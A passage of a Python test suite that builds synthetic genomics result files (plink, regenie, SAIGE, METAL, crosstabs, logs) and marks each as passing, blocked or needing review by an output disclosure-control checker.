    return "variant,genotype,n\nrs7412,0/0,250\nrs7412,0/1,45\nrs7412,1/1,5\n"


# -- files that were blocked but are safe ------------------------------------------------------

F = "false-block"


@case("pca_explained_variance.csv", Expect.PASS, "explained variance under PC1..PC10", F)
def _(path, rng):
    ratio = np.round(np.sort(rng.uniform(0.01, 0.2, 10))[::-1], 4)
    return "PC1,PC2,PC3,PC4,PC5,PC6,PC7,PC8,PC9,PC10\n" + ",".join(map(str, ratio)) + "\n"


@case("pca_explained_variance_rows.csv", Expect.PASS, "explained variance ratio per PC", F)
def _(path, rng):
    ratio = np.round(np.sort(rng.uniform(0.01, 0.2, 10))[::-1], 4)
    frame = pd.DataFrame({"component": [f"PC{k}" for k in range(1, 11)],
                          "explained_variance_ratio": ratio})  # fmt: skip
    frame.to_csv(path, index=False)


@case("plink2.eigenval", Expect.PASS, "plink2 --pca eigenvalues", F)
def _(path, rng):
    return "".join(f"{v:g}\n" for v in np.sort(rng.uniform(1, 12, 10))[::-1].round(4))


@case("genotype_counts.csv", Expect.PASS, "counts per genotype coded 0/1/2", F)
def _(path, rng):
    return "genotype,n\n0,1200\n1,450\n2,30\n"


@case("sex_coded_counts.csv", Expect.PASS, "counts per sex coded 1/2", F)
def _(path, rng):
    return "sex,count\n1,1200\n2,1450\n"


@case("case_status_by_sex.csv", Expect.PASS, "counts by sex and case status coded 0/1", F)
def _(path, rng):
    return "sex,case,n\nF,0,90\nF,1,30\nM,0,90\nM,1,20\n"


@case("genotype_counts_small.csv", Expect.BLOCK, "counts per genotype 0/1/2, one of 3", F)
def _(path, rng):
    return "genotype,n\n0,1200\n1,450\n2,3\n"


@case("case_control_singular.csv", Expect.BLOCK, "counts of 1 and 2 under 'case' by 'control'", F)
def _(path, rng):
    return "allele,case,control\nA,1,40\nG,2,50\n"


@case("status_of_one_and_two.csv", Expect.BLOCK, "'status' of 1 and 2 once each, then 'n'", F)
def _(path, rng):
    return "group,status,n\ngroup a,1,300\ngroup b,2,300\n"


@case("sex_column_of_counts.csv", Expect.BLOCK, "a column named 'sex' is the only counts", F)
def _(path, rng):
    return "group,sex\ngroup a,3\ngroup b,40\n"


@case("crosstab_pandas_index.csv", Expect.PASS, "a count table with pandas' index column", F)
def _(path, rng):
    frame = pd.DataFrame(
        {
            "region": ["north", "south", "east", "west"],
            "cases": [55, 40, 25, 60],
            "controls": [120, 115, 80, 140],
        }
    )
    frame.to_csv(path)  # index 0..3 in an unnamed first column


@case("gwama_n_studies.out", Expect.PASS, "GWAMA with n_studies = 3", F)
def _(path, rng):
    n = 20
    _, ids, ref, alt, beta, se, p = _sumstats(rng, n)
    header = _header(
        "rs_number reference_allele other_allele eaf beta se beta_95L beta_95U "
        "z p-value _-log10_p-value q_statistic q_p-value i2 n_studies n_samples "
        "effects"
    )
    rows = [header] + [
        [ids[k], alt[k], ref[k], round(float(rng.uniform(0.05, 0.5)), 4), beta[k], se[k],
         beta[k] - 0.1, beta[k] + 0.1, 1.1, p[k], 1.2, 0.5, 0.7, 0, 3, 5000, "+-+"]
        for k in range(n)
    ]  # fmt: skip
    return _tsv(rows)


@case("replication.csv", Expect.PASS, "a 'sample' column meaning discovery/replication", F)
def _(path, rng):
    return (
        "rsid,sample,n,eaf,beta,se,p\n"
        "rs7412,discovery,5000,0.08,-0.31,0.04,1e-12\n"
        "rs7412,replication,2000,0.07,-0.28,0.06,3e-6\n"
        "rs429358,discovery,5000,0.15,0.22,0.03,2e-10\n"
        "rs429358,replication,2000,0.14,0.19,0.05,1e-4\n"
    )


@case(
    "read_totals.csv",
    Expect.PASS,
    "10-digit read totals per batch",
    F,
)
def _(path, rng):
    # 3415008770 passes the NHS checksum and 2103642216 has a CPR date and checksum: both are
    # read totals, in a column of read totals
    return "batch,n_samples,reads\nB1,100,3415008770\nB2,100,2103642216\nB3,100,2941238806\n"


@case("run.log", Expect.PASS, "a log whose lines start with '['", F)
def _(path, rng):
    return (
        "[2026-01-05 10:00:01] INFO plink2 --glm started\n"
        "[2026-01-05 10:00:03] INFO 900 samples (450 females, 450 males) loaded\n"
        "[2026-01-05 10:05:10] INFO 120000 variants remaining after main filters\n"
        "[2026-01-05 10:09:44] INFO results written to ldl.glm.linear\n"
    )


@case("dask_progress.log", Expect.PASS, "a log of 'key n key n' lines in pairs", F)
def _(path, rng):
    return (
        "distributed.scheduler - INFO - Receive client connection: Client-1\n"
        "workers 2 threads 4 memory 8 GiB\n"
        "tasks 7 done 7 failed 0\n\n"
        "workers 2 threads 4 memory 8 GiB\n"
        "tasks 3 done 3 failed 0\n"
    )


@case("python_logging.log", Expect.PASS, "Python logging lines with timestamps and numbers", F)
def _(path, rng):
    return (
        "2026-01-05 10:00:01 INFO step 1\n"
        "2026-01-05 10:00:02 INFO loaded 20000 variants\n"
        "2026-01-05 10:00:03 INFO step 2\n"
        "2026-01-05 10:00:04 INFO kept 19873 variants\n"
    )


@case("counts_headerless.txt", Expect.BLOCK, "three lines of counts under a title, a 3", C)
def _(path, rng):
    return "Counts by region\n\nnorth 3 120\nsouth 12 130\neast 25 140\n"


def _glm_linear(rng, n: int, small_n_row: int | None = None) -> str:
    pos, ids, ref, alt, beta, se, p = _sumstats(rng, n)
    obs = np.full(n, 900)
    if small_n_row is not None:
        obs[small_n_row] = 8
    a1_ct = rng.integers(100, 800, n)
    header = _header(
        "#CHROM POS ID REF ALT A1 A1_CT ALLELE_CT A1_FREQ TEST OBS_CT BETA SE T_STAT P"
    )
    lines = ["\t".join(header)]
    for k in range(n):
        allele_ct = 2 * obs[k]
        ct = min(a1_ct[k], allele_ct - 20) if small_n_row != k else 8
        lines.append(
            f"22\t{pos[k]}\t{ids[k]}\t{ref[k]}\t{alt[k]}\t{alt[k]}\t{ct}\t{allele_ct}\t"
            f"{ct / allele_ct:.6g}\tADD\t{obs[k]}\t{beta[k]}\t{se[k]}\t"
            f"{beta[k] / se[k]:.6g}\t{p[k]}"
        )
    return "\n".join(lines) + "\n"


@case("sumstats_large.glm.linear", Expect.PASS, "genome-wide plink2 --glm above 16 MiB", F)
def _(path, rng):
    n = 200_000
    pos = np.cumsum(rng.integers(1, 250, n)) + 10_000
    ac = rng.integers(50, 1750, n)
    beta = rng.normal(0, 0.05, n)
    se = rng.uniform(0.02, 0.1, n)
    frame = pd.DataFrame(
        {
            "#CHROM": 1, "POS": pos, "ID": [f"1:{p}:A:G" for p in pos], "REF": "A", "ALT": "G",
            "A1": "G", "A1_CT": ac, "ALLELE_CT": 1800, "A1_FREQ": np.round(ac / 1800, 6),
            "TEST": "ADD", "OBS_CT": 900, "BETA": np.round(beta, 6), "SE": np.round(se, 6),
            "T_STAT": np.round(beta / se, 6), "P": np.round(rng.uniform(0, 1, n), 6),
        }
    )  # fmt: skip
    frame.to_csv(path, sep="\t", index=False)


@case("methods.md", Expect.PASS, "methods text in Markdown", F)
def _(path, rng):
    return (
        "# Methods\n\nWe ran a linear GWAS of LDL cholesterol with plink2 (--glm), adjusting for "
        "age, sex and ten principal components. Variants with a minor allele count below 10 "
        "were dropped.\n\n## Software\n\n- plink2 v2.0\n- regenie v3.4\n"
    )


@case("notes.txt", Expect.PASS, "plain notes", F)
def _(path, rng):
    return "Analysis plan, version 2.\nThe cohort definitions follow the protocol of March.\n"


@case("qq_points.csv", Expect.REVIEW, "QQ-plot points (sorted), no known kind", F)
def _(path, rng):
    n = 1000
    expected = -np.log10((np.arange(1, n + 1) - 0.5) / n)
    observed = np.sort(-np.log10(rng.uniform(0, 1, n)))[::-1]
    pd.DataFrame({"expected": expected.round(5), "observed": observed.round(5)}).to_csv(
        path, index=False
    )


# -- safe files of recognised kinds ------------------------------------------------------------

S = "safe"


def _afreq(rng, n: int, counts: bool) -> str:
    _, ids = _variants(rng, n)
    ref, alt = _alleles(rng, n)
    obs = np.full(n, 1800) - rng.integers(0, 20, n) * 2
    ac = (obs * rng.uniform(0.02, 0.98, n)).astype(int)
    head = ["#CHROM", "ID", "REF", "ALT", "ALT_CTS" if counts else "ALT_FREQS", "OBS_CT"]
    rows = [head] + [
        [22, ids[k], ref[k], alt[k], ac[k] if counts else f"{ac[k] / obs[k]:.6g}", obs[k]]
        for k in range(n)
    ]
    return _tsv(rows)


@case("plink2.afreq", Expect.PASS, "plink2 --freq", S)
def _(path, rng):
    return _afreq(rng, 50, counts=False)


@case("plink2.acount", Expect.PASS, "plink2 --freq counts", S)
def _(path, rng):
    return _afreq(rng, 50, counts=True)


@case("plink2.gcount", Expect.PASS, "plink2 --geno-counts", S)
def _(path, rng):
    n = 30
    _, ids = _variants(rng, n)
    ref, alt = _alleles(rng, n)
    header = _header(
        "#CHROM ID REF ALT HOM_REF_CT HET_REF_ALT_CTS TWO_ALT_GENO_CTS "
        "HAP_REF_CT HAP_ALT_CTS MISSING_CT"
    )
    rows = [header]
    for k in range(n):
        hom_alt = int(rng.integers(10, 100))
        het = int(rng.integers(100, 400))
        rows.append([22, ids[k], ref[k], alt[k], 900 - het - hom_alt, het, hom_alt, 0, 0, 0])
    return _tsv(rows)


@case("plink2.hardy", Expect.PASS, "plink2 --hardy", S)
def _(path, rng):
    n = 30
    _, ids = _variants(rng, n)
    ref, alt = _alleles(rng, n)
    header = _header("#CHROM ID A1 AX HOM_A1_CT HET_A1_CT TWO_AX_CT O(HET_A1) E(HET_A1) P")
    rows = [header]
    for k in range(n):
        hom, het = int(rng.integers(10, 100)), int(rng.integers(100, 400))
        rows.append([22, ids[k], alt[k], ref[k], hom, het, 900 - hom - het, 0.3, 0.31, 0.7])
    return _tsv(rows)


@case("plink2.vmiss", Expect.PASS, "plink2 --missing per variant", S)
def _(path, rng):
    n = 30
    _, ids = _variants(rng, n)
    miss = rng.integers(0, 30, n)
    rows = [["#CHROM", "ID", "MISSING_CT", "OBS_CT", "F_MISS"]] + [
        [22, ids[k], miss[k], 900, round(miss[k] / 900, 6)] for k in range(n)
    ]
    return _tsv(rows)


@case("ldl.glm.linear", Expect.PASS, "plink2 --glm linear", S)
def _(path, rng):
    return _glm_linear(rng, 60)


@case("case.glm.logistic.hybrid", Expect.PASS, "plink2 --glm logistic (Firth hybrid)", S)
def _(path, rng):
    n = 40
    pos, ids, ref, alt, beta, se, p = _sumstats(rng, n)
    header = _header("#CHROM POS ID REF ALT A1 FIRTH? TEST OBS_CT OR LOG(OR)_SE Z_STAT P ERRCODE")
    rows = [header] + [
        [22, pos[k], ids[k], ref[k], alt[k], alt[k], "N", "ADD", 900,
         round(float(np.exp(beta[k])), 5),
         se[k], round(beta[k] / se[k], 4), p[k], "."]
        for k in range(n)
    ]  # fmt: skip
    return _tsv(rows)


@case("step2_ldl.regenie", Expect.PASS, "regenie step 2", S)
def _(path, rng):
    n = 40
    pos, ids, ref, alt, beta, se, _p = _sumstats(rng, n)
    freq = _frequencies(rng, n)
    header = "CHROM GENPOS ID ALLELE0 ALLELE1 A1FREQ INFO N TEST BETA SE CHISQ LOG10P EXTRA"
    rows = [header.split()] + [
        [22, pos[k], ids[k], ref[k], alt[k], freq[k], 1, 900, "ADD", beta[k], se[k], 1.2, 0.3,
         "NA"]
        for k in range(n)
    ]  # fmt: skip
    return _tsv(rows, " ")


@case("saige_safe.txt", Expect.PASS, "SAIGE step 2", S)
def _(path, rng):
    n = 30
    pos, ids, ref, alt, beta, se, p = _sumstats(rng, n)
    ac = rng.integers(60, 800, n)
    header = _header(
        "CHR POS MarkerID Allele1 Allele2 AC_Allele2 AF_Allele2 MissingRate BETA SE "
        "Tstat var p.value N"
    )
    rows = [header] + [
        [22, pos[k], ids[k], ref[k], alt[k], ac[k], round(ac[k] / 1800, 6), 0, beta[k], se[k],
         round(beta[k] / se[k], 4), 1.2, p[k], 900]
        for k in range(n)
    ]  # fmt: skip
    return _tsv(rows, " ")


@case("safe.fastGWA", Expect.PASS, "fastGWA", S)
def _(path, rng):
    n = 30
    pos, ids, ref, alt, beta, se, p = _sumstats(rng, n)
    af = _frequencies(rng, n)
    rows = [["CHR", "SNP", "POS", "A1", "A2", "N", "AF1", "BETA", "SE", "P"]] + [
        [22, ids[k], pos[k], alt[k], ref[k], 900, af[k], beta[k], se[k], p[k]] for k in range(n)
    ]
    return _tsv(rows)


@case("bolt_with_n.stats", Expect.PASS, "BOLT-LMM stats with an N column added", S)
def _(path, rng):
    n = 30
    pos, ids, ref, alt, beta, se, p = _sumstats(rng, n)
    af = _frequencies(rng, n)
    header = _header(
        "SNP CHR BP GENPOS ALLELE1 ALLELE0 A1FREQ F_MISS BETA SE P_BOLT_LMM_INF P_BOLT_LMM N"
    )
    rows = [header] + [
        [ids[k], 22, pos[k], 0.1, alt[k], ref[k], af[k], 0.01, beta[k], se[k], p[k], p[k], 900]
        for k in range(n)
    ]
    return _tsv(rows)


@case("metal_safe.tbl", Expect.PASS, "METAL meta-analysis", S)
def _(path, rng):
    n = 30
    _, ids, ref, alt, beta, se, p = _sumstats(rng, n)
    freq = _frequencies(rng, n)
    header = _header(
        "MarkerName Allele1 Allele2 Freq1 FreqSE MinFreq MaxFreq Effect StdErr "
        "P-value Direction HetISq HetChiSq HetDf HetPVal TotalSampleSize"
    )
    rows = [header] + [
        [ids[k], alt[k].lower(), ref[k].lower(), freq[k], 0.01, freq[k], freq[k], beta[k], se[k],
         p[k], "++-", 0, 1.1, 2, 0.6, 2700]
        for k in range(n)
    ]  # fmt: skip
    return _tsv(rows)


@case("gwas_catalog_safe.tsv", Expect.PASS, "GWAS-catalog summary statistics", S)
def _(path, rng):
    n = 30
    pos, ids, ref, alt, beta, se, p = _sumstats(rng, n)
    eaf = _frequencies(rng, n)
    header = _header(
        "chromosome base_pair_location effect_allele other_allele beta "
        "standard_error effect_allele_frequency p_value rsid n"
    )
    rows = [header] + [
        [22, pos[k], alt[k], ref[k], beta[k], se[k], eaf[k], p[k], ids[k], 900] for k in range(n)
    ]
    return _tsv(rows)


@case("plink19.frq", Expect.PASS, "plink 1.9 --freq", S)
def _(path, rng):
    n = 30
    _, ids = _variants(rng, n)
    ref, alt = _alleles(rng, n)
    maf = _frequencies(rng, n)
    rows = [["CHR", "SNP", "A1", "A2", "MAF", "NCHROBS"]] + [
        [22, ids[k], alt[k], ref[k], maf[k], 1800] for k in range(n)
    ]
    return _aligned(rows)


@case("plink19_safe.frq.counts", Expect.PASS, "plink 1.9 --freq counts", S)
def _(path, rng):
    n = 30
    _, ids = _variants(rng, n)
    ref, alt = _alleles(rng, n)
    c1 = rng.integers(60, 900, n)
    rows = [["CHR", "SNP", "A1", "A2", "C1", "C2", "G0"]] + [
        [22, ids[k], alt[k], ref[k], c1[k], 1800 - c1[k], 0] for k in range(n)
    ]
    return _aligned(rows)


@case("plink19.frq.cc", Expect.PASS, "plink 1.9 --freq case-control", S)
def _(path, rng):
    n = 30
    _, ids = _variants(rng, n)
    ref, alt = _alleles(rng, n)
    rows = [["CHR", "SNP", "A1", "A2", "MAF_A", "MAF_U", "NCHROBS_A", "NCHROBS_U"]] + [
        [22, ids[k], alt[k], ref[k], round(float(rng.uniform(0.1, 0.5)), 4),
         round(float(rng.uniform(0.1, 0.5)), 4), 800, 1000]
        for k in range(n)
    ]  # fmt: skip
    return _aligned(rows)


@case("plink19_safe.hwe", Expect.PASS, "plink 1.9 --hardy", S)
def _(path, rng):
    n = 20
    _, ids = _variants(rng, n)
    ref, alt = _alleles(rng, n)
    rows = [["CHR", "SNP", "TEST", "A1", "A2", "GENO", "O(HET)", "E(HET)", "P"]]
    for k in range(n):
        hom = int(rng.integers(20, 80))
        het = int(rng.integers(200, 400))
        rows.append([22, ids[k], "ALL", alt[k], ref[k], f"{hom}/{het}/{900 - hom - het}", 0.4,
                     0.41, 0.8])  # fmt: skip
    return _aligned(rows)


@case("plink19.assoc.linear", Expect.PASS, "plink 1.9 --linear", S)
def _(path, rng):
    n = 30
    pos, ids, _ref, alt, beta, se, p = _sumstats(rng, n)
    rows = [["CHR", "SNP", "BP", "A1", "TEST", "NMISS", "BETA", "STAT", "P"]] + [
        [22, ids[k], pos[k], alt[k], "ADD", 900, beta[k], round(beta[k] / se[k], 4), p[k]]
        for k in range(n)
    ]
    return _aligned(rows)


@case("plink19.assoc.logistic", Expect.PASS, "plink 1.9 --logistic", S)
def _(path, rng):
    n = 30
    pos, ids, _ref, alt, beta, se, p = _sumstats(rng, n)
    rows = [["CHR", "SNP", "BP", "A1", "TEST", "NMISS", "OR", "STAT", "P"]] + [
        [22, ids[k], pos[k], alt[k], "ADD", 900, round(float(np.exp(beta[k])), 4),
         round(beta[k] / se[k], 4), p[k]]
        for k in range(n)
    ]  # fmt: skip
    return _aligned(rows)


@case("plink19.lmiss", Expect.PASS, "plink 1.9 --missing per variant", S)
def _(path, rng):
    n = 30
    _, ids = _variants(rng, n)
    miss = rng.integers(0, 30, n)
    rows = [["CHR", "SNP", "N_MISS", "N_GENO", "F_MISS"]] + [
        [22, ids[k], miss[k], 900, round(miss[k] / 900, 5)] for k in range(n)
    ]
    return _aligned(rows)


@case("hail_variant_qc_safe.tsv", Expect.PASS, "Hail variant_qc export", S)
def _(path, rng):
    n = 20
    pos, _ = _variants(rng, n)
    ref, alt = _alleles(rng, n)
    alts = rng.integers(60, 800, n)
    rows = [["locus", "alleles", "variant_qc.AC", "variant_qc.AF", "variant_qc.AN",
             "variant_qc.call_rate"]] + [
        [f"chr22:{pos[k]}", json.dumps([ref[k], alt[k]]), f"[{1800 - alts[k]},{alts[k]}]",
         f"[{(1800 - alts[k]) / 1800:.4f},{alts[k] / 1800:.4f}]", 1800, 1.0]
        for k in range(n)
    ]  # fmt: skip
    return _tsv(rows)


@case("bcftools_safe.tsv", Expect.PASS, "bcftools query AC/AN", S)
def _(path, rng):
    n = 20
    _, ids = _variants(rng, n)
    ac = rng.integers(30, 1700, n)
    return _tsv([["# [1]ID", "[2]AC", "[3]AN"]] + [[ids[k], ac[k], 1800] for k in range(n)])


@case("crosstab.csv", Expect.PASS, "pd.crosstab(...).to_csv(), rounded", S)
def _(path, rng):
    return "region,2021,2022,2023\neast,25,40,35\nnorth,55,60,70\nsouth,30,35,45\n"


@case("summary_by_group.csv", Expect.REVIEW, "means per group: dominance needs a human", S)
def _(path, rng):
    return "group,n,mean_ldl,sd_ldl\ncases,120,3.61,0.82\ncontrols,250,3.22,0.79\n"


@case("table1.csv", Expect.PASS, "Table 1 with 'n (%)' cells", S)
def _(path, rng):
    return (
        "characteristic,cases,controls\n"
        "N,120,250\n"
        "female,55 (45.8),120 (48.0)\n"
        "smoker,30 (25.0),60 (24.0)\n"
        "age mean (SD),54.2 (8.1),51.0 (9.3)\n"
    )


@case("coefficients.csv", Expect.PASS, "model coefficients with df_resid", S)
def _(path, rng):
    return (
        "term,coef,std_err,p,df_resid\nIntercept,1.2,0.3,0.001,897\nage,0.02,0.004,1e-6,897\n"
        "sex,0.1,0.05,0.04,897\n"
    )


@case("lm_summary.txt", Expect.PASS, "R summary(lm) with 897 residual dof", S)
def _(path, rng):
    return (
        "Call:\nlm(formula = ldl ~ age + sex, data = d)\n\n"
        "Coefficients:\n"
        "            Estimate Std. Error t value Pr(>|t|)    \n"
        "(Intercept) 1.200000   0.300000   4.000 6.86e-05 ***\n"
        "age         0.020000   0.004000   5.000 6.89e-07 ***\n"
        "sex         0.100000   0.050000   2.000   0.0458 *  \n"
        "---\n"
        "Residual standard error: 0.81 on 897 degrees of freedom\n"
        "Multiple R-squared:  0.031,\tAdjusted R-squared:  0.029 \n"
        "F-statistic: 14.3 on 2 and 897 DF,  p-value: 7.2e-07\n"
    )


@case("statsmodels_summary.txt", Expect.PASS, "statsmodels OLS summary, 97 residual dof", S)
def _(path, rng):
    import statsmodels.api as sm

    x = sm.add_constant(rng.normal(size=(100, 2)))
    y = x @ [1, 0.5, -0.2] + rng.normal(size=100)
    return sm.OLS(y, x).fit().summary().as_text()


@case("crosstab.json", Expect.PASS, "a crosstab as JSON records", S)
def _(path, rng):
    return json.dumps([{"region": "north", "cases": 55, "controls": 120},
                       {"region": "south", "cases": 40, "controls": 115}])  # fmt: skip


@case("crosstab.parquet", Expect.PASS, "a crosstab as Parquet", S)
def _(path, rng):
    frame = pd.DataFrame({"region": ["north", "south"], "cases": [55, 40], "controls": [120, 115]})
    frame.to_parquet(path, index=False)


@case("counts_safe.md", Expect.PASS, "a Markdown table of rounded counts", S)
def _(path, rng):
    return (
        "## Counts\n\n| region | cases | controls |\n|---|---:|---:|\n"
        "| north | 20 | 55 |\n| south | 30 | 35 |\n"
    )


@case("counts_safe.tex", Expect.PASS, "a LaTeX table of rounded counts", S)
def _(path, rng):
    return (
        "\\begin{tabular}{lrr}\n\\toprule\nRegion & Cases & Controls \\\\\n\\midrule\n"
        "North & 20 & 55 \\\\\nSouth & 30 & 35 \\\\\n\\bottomrule\n\\end{tabular}\n"
    )


@case("allele_counts_discovery.tsv", Expect.PASS, "a discovery allele-count summary", S)
def _(path, rng):
    n = 30
    pos, _ids = _variants(rng, n)
    ref, alt = _alleles(rng, n)
    ac = rng.integers(20, 1700, n)
    rows = [["CHROM", "POS", "REF", "ALT", "AC", "AN"]] + [
        [22, pos[k], ref[k], alt[k], ac[k], 1800] for k in range(n)
    ]
    return _tsv(rows)


# -- more tools and layouts --------------------------------------------------------------------

M = "more"


@case("pcs_cases_only.csv", Expect.BLOCK, "PCs of the 150 cases, no IDs", I)
def _(path, rng):
    frame = pd.DataFrame(_scores(rng, 150, 4), columns=["PC1", "PC2", "PC3", "PC4"])
    frame.to_csv(path, index=False)


@case("prs_with_group.csv", Expect.BLOCK, "a score per person with case/control labels", I)
def _(path, rng):
    frame = pd.DataFrame({"group": rng.choice(["case", "control"], PEOPLE),
                          "prs": np.round(rng.normal(0, 1, PEOPLE), 5)})  # fmt: skip
    frame.to_csv(path, index=False)


@case("plink.ped", Expect.BLOCK, "a plink .ped file (alleles per person)", I)
def _(path, rng):
    return "".join(
        f"F{i} per{i} 0 0 1 2 " + " ".join(rng.choice(list("ACGT"), 24)) + "\n" for i in range(40)
    )


@case("impute.gen", Expect.BLOCK, "IMPUTE genotype probabilities", I)
def _(path, rng):
    lines = []
    for i in range(30):
        probs = np.round(rng.dirichlet([60, 1, 1], 20)[:, rng.permutation(3)].ravel(), 3)
        lines.append(f"--- rs{i} {1000 + i} A G " + " ".join(f"{p:.3f}" for p in probs))
    return "\n".join(lines) + "\n"


@case("shapeit.haps", Expect.BLOCK, "SHAPEIT haplotypes, 0/1 per chromosome copy", I)
def _(path, rng):
    return "".join(
        f"22 rs{i} {1000 + i} A G " + " ".join(map(str, rng.integers(0, 2, 120))) + "\n"
        for i in range(30)
    )


@case("json_records_people.json", Expect.BLOCK, "JSON records, one per person", I)
def _(path, rng):
    return json.dumps([{"id": f"P{i}", "pc1": float(rng.normal()), "pc2": float(rng.normal())}
                       for i in range(PEOPLE)])  # fmt: skip


@case("ids_concatenated.txt", Expect.BLOCK, "two sample IDs written together", I)
def _(path, rng):
    return "excluded: DK000001DK000002\n"


@case("prsice.best", Expect.BLOCK, "PRSice scores per person", I)
def _(path, rng):
    return "FID IID In_Regression PRS\n" + "".join(
        f"f{i} per{i} Yes {rng.normal():.5f}\n" for i in range(60)
    )


@case("xxd.txt", Expect.BLOCK, "a hexdump of packed data", I)
def _(path, rng):
    return "".join(
        f"{i:08x}: " + " ".join(rng.bytes(2).hex() for _ in range(8)) + "  ................\n"
        for i in range(0, 256, 16)
    )


@case("regenie_step1.loco", Expect.BLOCK, "regenie step 1 predictions, people as columns", I)
def _(path, rng):
    people = sample_ids("dk", 20)
    return (
        "FID_IID "
        + " ".join(f"{s}_{s}" for s in people)
        + "\n1 "
        + " ".join(f"{v:.4f}" for v in rng.normal(0, 1, 20))
        + "\n"
    )


@case("gnomad_style.tsv", Expect.BLOCK, "AC_dk/AN_dk per cohort with a 3", C)
def _(path, rng):
    return (
        "CHROM\tPOS\tREF\tALT\tAC_dk\tAN_dk\tAC_se\tAN_se\n"
        "22\t100\tA\tG\t3\t600\t40\t600\n22\t200\tC\tT\t50\t600\t60\t600\n"
    )


@case("assoc_counts.assoc", Expect.BLOCK, "plink 1.9 --assoc counts with C_A = 3", C)
def _(path, rng):
    return (
        "CHR SNP BP A1 C_A C_U A2 CHISQ P OR\n22 rs1 100 G 3 40 A 1.2 0.3 1.1\n"
        "22 rs2 200 C 50 60 T 1.2 0.3 1.1\n"
    )


@case("table1_n_in_header.csv", Expect.BLOCK, "Table 1 with '(n=7)' in a column name", C)
def _(path, rng):
    return "characteristic,cases (n=7),controls (n=250)\nfemale %,42.9,48.0\nage mean,54.2,51.0\n"


@case("coxph.txt", Expect.BLOCK, "R coxph summary with 'number of events= 3'", C)
def _(path, rng):
    return (
        "Call:\ncoxph(formula = Surv(time, status) ~ age)\n\n  n= 45, number of events= 3 \n\n"
        "      coef exp(coef) se(coef)     z Pr(>|z|)\n"
        "age 0.0123    1.0124   0.0101 1.218    0.223\n"
    )


@case("anova.txt", Expect.BLOCK, "R anova table with 6 residual degrees of freedom", C)
def _(path, rng):
    return (
        "Analysis of Variance Table\n\nResponse: ldl\n"
        "          Df Sum Sq Mean Sq F value Pr(>F)\n"
        "group      2  1.234  0.6170  0.5231 0.6171\nResiduals  6  7.077  1.1795\n"
    )


@case("value_counts.txt", Expect.BLOCK, "pandas value_counts() printed, with a 3", C)
def _(path, rng):
    return "ldl_category\nhigh    3\nlow    55\nName: count, dtype: int64\n"


@case("km_table.csv", Expect.BLOCK, "Kaplan-Meier table with 1 event", C)
def _(path, rng):
    return "time,n.risk,n.event,survival\n1,45,2,0.95\n2,40,1,0.93\n"


@case("hist.csv", Expect.BLOCK, "histogram counts with a 3", C)
def _(path, rng):
    return "bin_start,bin_end,count\n0,10,25\n10,20,3\n"


@case("gnomad_style_safe.tsv", Expect.PASS, "AC/AN per cohort", S)
def _(path, rng):
    return (
        "CHROM\tPOS\tREF\tALT\tAC_dk\tAN_dk\tAC_se\tAN_se\n"
        "22\t100\tA\tG\t30\t600\t40\t600\n22\t200\tC\tT\t50\t600\t60\t600\n"
    )


@case("clumped.clumped", Expect.PASS, "plink 1.9 --clump (TOTAL, NSIG: counts of SNPs)", S)
def _(path, rng):
    return (
        " CHR    F         SNP         BP          P    TOTAL   NSIG    S05    S01   S001  S0001"
        "    SP2\n  22    1    rs123    1000   1e-10        3      1      1      1      0      0"
        "    rs1(1),rs2(1)\n"
    )


@case("magma.genes.out", Expect.PASS, "MAGMA gene results (NSNPS, NPARAM, N)", S)
def _(path, rng):
    return (
        "GENE CHR START STOP NSNPS NPARAM N ZSTAT P\n1 22 100 2000 12 3 900 1.2 0.1\n"
        "2 22 3000 5000 4 2 900 0.3 0.4\n"
    )


@case("cojo.jma.cojo", Expect.PASS, "GCTA-COJO joint results", S)
def _(path, rng):
    return (
        "Chr SNP bp refA freq b se p n freq_geno bJ bJ_se pJ LD_r\n"
        "22 rs1 100 A 0.2 0.1 0.02 1e-8 900 0.2 0.1 0.02 1e-8 0\n"
    )


@case("reml.hsq", Expect.PASS, "GCTA --reml variance components", S)
def _(path, rng):
    return (
        "Source\tVariance\tSE\nV(G)\t0.3\t0.1\nV(e)\t0.7\t0.1\nVp\t1.0\t0.05\n"
        "V(G)/Vp\t0.3\t0.1\nlogL\t-100\nn\t5000\n"
    )


@case("ldsc.log", Expect.PASS, "an LDSC log", S)
def _(path, rng):
    return (
        "*" * 69 + "\n* LD Score Regression (LDSC)\n" + "*" * 69 + "\n"
        "Total Observed scale h2: 0.2 (0.05)\nLambda GC: 1.05\n"
    )


def _adjusted(rng, n: int) -> list[list[float]]:
    """--adjust's p-values, smallest first, as plink computes them: most corrected ones are 1."""
    p = np.sort(rng.uniform(0, 1, n) ** 3)
    rank = np.arange(1, n + 1)
    bonf = np.minimum(p * n, 1)
    bh = np.minimum(np.minimum.accumulate((p * n / rank)[::-1])[::-1], 1)
    by = np.minimum(bh * np.sum(1 / rank), 1)
    sidak = 1 - (1 - p) ** n
    gc = np.minimum(p * 1.1, 1)
    return [list(r) for r in zip(p, gc, bonf, bonf, sidak, sidak, bh, by, strict=True)]


@case("ldl.glm.linear.adjusted", Expect.PASS, "plink2 --adjust: corrected p-values", S)
def _(path, rng):
    _, ids = _variants(rng, 400)
    rows = [["#CHROM", "ID", "A1", "UNADJ", "GC", "BONF", "HOLM", "SIDAK_SS", "SIDAK_SD",
             "FDR_BH", "FDR_BY"]]  # fmt: skip
    for vid, values in zip(ids, _adjusted(rng, 400), strict=True):
        rows.append(["22", vid, "T", *(f"{v:.6g}" for v in values)])
    return _tsv(rows)


@case("plink19.assoc.linear.adjusted", Expect.PASS, "plink 1.9 --adjust, aligned", S)
def _(path, rng):
    _, ids = _variants(rng, 300)
    rows = [["CHR", "SNP", "UNADJ", "GC", "BONF", "HOLM", "SIDAK_SS", "SIDAK_SD", "FDR_BH",
             "FDR_BY"]]  # fmt: skip
    for vid, values in zip(ids, _adjusted(rng, 300), strict=True):
        rows.append(["22", vid, *(f"{v:.4g}" for v in values)])
    return _aligned(rows)


@case("plink2.afreq.alt1.bins", Expect.PASS, "plink2 --freq alt1bins=: variants per bin", S)
def _(path, rng):
    bins = ["0", "0.01", "0.05", "0.1", "0.2"]
    return _tsv([["#BIN_START", "OBS_CT"], *([b, int(rng.integers(0, 2000))] for b in bins)])


@case("plink2_options.log", Expect.PASS, "a plink2 log: options with values, one a line", S)
def _(path, rng):
    return (
        "PLINK v2.00a3.5 AVX2 (9 Aug 2022)\nOptions in effect:\n  --glm hide-covar\n"
        "  --ld-window-kb 100\n  --ld-window-r2 0.2\n  --out results/ldl\n  --pfile dk\n"
        "  --threads 4\n\nHostname: node1\nWorking directory: /home/researcher\n"
        "Start time: Sun Dec  6 17:12:16 2026\n\n2048 MiB RAM detected; reserving 1024 MiB.\n"
